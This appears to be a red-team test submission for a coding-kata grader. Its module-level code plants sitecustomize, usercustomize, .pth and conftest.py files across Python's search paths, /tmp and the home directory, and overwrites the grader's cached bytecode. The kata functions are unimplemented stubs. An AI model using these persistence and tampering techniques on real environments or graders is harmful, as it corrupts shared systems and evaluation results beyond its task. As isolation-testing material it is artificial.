"""Waits for the next submission.

Kata: backoff_schedule
Attack: Leaves sitecustomize.py, a .pth file, a conftest.py and a byte-code file wherever Python or pytest might look next time.
Status: failed or error
Points: 0
Needs: tree
"""

import contextlib
import os
import site
import sys
from pathlib import Path

CODE = "import os; os.environ['REDTEAM_WAS_HERE'] = '1'\n"
if "REDTEAM_WAS_HERE" in os.environ:
    raise RuntimeError("HARM: an earlier submission is still here")
places = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), os.getcwd(), "/tmp", os.path.expanduser("~")]
for place in map(Path, filter(None, places)):
    for name in ("sitecustomize.py", "usercustomize.py", "redteam.pth", "conftest.py"):
        with contextlib.suppress(OSError):
            if not (place / name).exists():
                (place / name).write_text(CODE)
for module in list(sys.modules.values()):
    cached = getattr(module, "__cached__", None)
    if cached and "dojo" in cached:
        with contextlib.suppress(OSError):
            Path(cached).write_bytes(b"poison")


def delay(retry, **options):
    raise NotImplementedError


class Backoff:
    def __init__(self, **options):
        raise NotImplementedError
